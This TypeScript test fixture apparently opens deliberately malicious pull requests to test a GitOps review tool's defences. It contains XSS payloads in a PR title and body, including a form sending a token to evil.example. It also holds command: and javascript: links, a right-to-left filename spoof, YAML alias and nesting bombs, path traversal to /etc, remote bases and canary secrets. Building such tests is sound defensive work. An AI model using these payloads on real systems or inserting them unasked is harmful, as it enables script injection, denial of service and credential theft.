import type { Shop } from '../fixtures/shop/index.ts';

/** Values of Secrets, before and after: they may stand in the files of a pull request, and nowhere else. */
export const canaries = { before: 'canary-5f1c-before', after: 'canary-77ab-after', broken: 'canary-90de-broken' } as const;

/** A title and a description as somebody would write them who wants more than a review. */
export const hostileTitle = '<img src=x onerror=alert(1)> **bold** [free](command:gitopsReview.signOut)\u202egnp.exe\nsecond line';
const hostileBody = [
  'Please merge. <img src=x onerror="document.title = \'owned\'">',
  '<script>document.title = "owned"</script><form action="https://evil.example"><input name="token"></form>',
  '[Click here](command:gitopsReview.signOut) or [here](javascript:alert(1)) or <a href="command:gitopsReview.signOut">here</a>.',
].join('\n\n');

/** Each level ten times the one before: a billion strings of a few hundred bytes. */
const aliasBomb = `apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: aliases\na: &a [x, x, x, x, x, x, x, x, x, x]\n${
  [...'bcdefghij'].map((name, index) => `${name}: &${name} [${Array(10).fill(`*${'abcdefghi'[index]}`).join(', ')}]`).join('\n')}\n`;
const deepBomb = `apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: deep\ndata: ${'['.repeat(20_000)}${']'.repeat(20_000)}\n`;
export const bombs = { aliases: aliasBomb, deep: deepBomb } as const;

const priorities = (value: number): string => `apiVersion: scheduling.k8s.io/v1\nkind: PriorityClass\nmetadata:\n  name: shop-critical\nvalue: ${value}\ndescription: What the shop cannot sell without.\n`;
const kustomization = (resource: string): string => `apiVersion: kustomize.config.k8s.io/v1beta1\nkind: Kustomization\nresources:\n  - ${resource}\n`;
const secret = (value: string): string => `apiVersion: v1\nkind: Secret\nmetadata:\n  name: mail\n  namespace: shop-production\nstringData:\n  password: ${value}\n`;

/** The files of each bad pull request, over main; all of them also change a priority, which must be shown all the same. */
const changes = {
  broken: () => ({
    'platform/alerts.yaml': 'apiVersion: monitoring.coreos.com/v1\nkind: PrometheusRule\nmetadata:\n  name: "shop\n',
    'apps/cart/deployment.yaml': 'apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: cart\nspec:\n  replicas: [2\n',
  }),
  bases: (remote: string) => ({
    'overlays/missing/kustomization.yaml': kustomization('../../apps/nowhere'),
    'overlays/remote/kustomization.yaml': kustomization(`${remote}/acme/base.git//cart?ref=v1`),
    'overlays/remote-file/kustomization.yaml': kustomization(`${remote}/cart.yaml`),
    'overlays/outside/kustomization.yaml': kustomization('../../../../../../etc'),
  }),
  bombs: () => ({
    'platform/aliases.yaml': aliasBomb,
    'platform/deep.yaml': deepBomb,
    'overlays/bomb/kustomization.yaml': kustomization('aliases.yaml'),
    'overlays/bomb/aliases.yaml': aliasBomb,
    'overlays/deep/kustomization.yaml': kustomization('deep.yaml'),
    'overlays/deep/deep.yaml': deepBomb,
  }),
  many: () => Object.fromEntries(Array.from({ length: 1_500 }, (_, index) => [
    `settings/part-${index}.yaml`, `apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: part-${index}\n  namespace: shop-production\ndata:\n  number: "${index}"\n`,
  ])),
  secrets: () => ({
    'platform/mail.yaml': secret(canaries.after),
    'overlays/mail/mail.yaml': secret(canaries.after),
    // What reads it may quote what it does not understand.
    'platform/mail-broken.yaml': `apiVersion: v1\nkind: Secret\nmetadata:\n  name: mail-broken\ndata: {password: "${canaries.broken}\n`,
    'overlays/mail-broken/kustomization.yaml': kustomization('mail.yaml'),
    'overlays/mail-broken/mail.yaml': `apiVersion: v1\nkind: Secret\nmetadata: {name: [mail]}\nstringData: ${canaries.broken}\n`,
    'overlays/mail-unparsed/kustomization.yaml': kustomization('mail.yaml'),
    'overlays/mail-unparsed/mail.yaml': `apiVersion: v1\nkind: Secret\nmetadata:\n  name: mail\nstringData:\n  password: ${canaries.broken}: ${canaries.broken}\n`,
  }),
} as const;

export interface BadPullRequests {
  readonly broken: number;
  readonly bases: number;
  readonly bombs: number;
  readonly hostile: number;
  readonly many: number;
  readonly secrets: number;
}

/** Opens them on the shop. `remote` is the address of a server that nothing may ask. */
export async function openBadPullRequests({ github }: Shop, remote: string): Promise<BadPullRequests> {
  await github.pushTo('main', {
    'platform/mail.yaml': secret(canaries.before),
    'overlays/mail/mail.yaml': secret(canaries.before),
    'overlays/mail/kustomization.yaml': kustomization('mail.yaml'),
  });
  let value = 100_000;
  const open = async (branch: string, title: string, files: Readonly<Record<string, string>>, body = ''): Promise<number> => {
    value++;
    await github.pushTo(branch, { ...files, 'platform/priorities.yaml': priorities(value) }, { parent: 'refs/heads/main' });
    return github.openPullRequest({ author: 'sam', title, body, head: branch });
  };
  return {
    broken: await open('broken', 'Broken documents', changes.broken()),
    bases: await open('bases', 'Bases that are not there', changes.bases(remote)),
    bombs: await open('bombs', 'Bombs', changes.bombs()),
    hostile: await open('hostile', hostileTitle, {}, hostileBody),
    many: await open('many', 'Many files', changes.many()),
    secrets: await open('secrets', 'New secrets', changes.secrets()),
  };
}
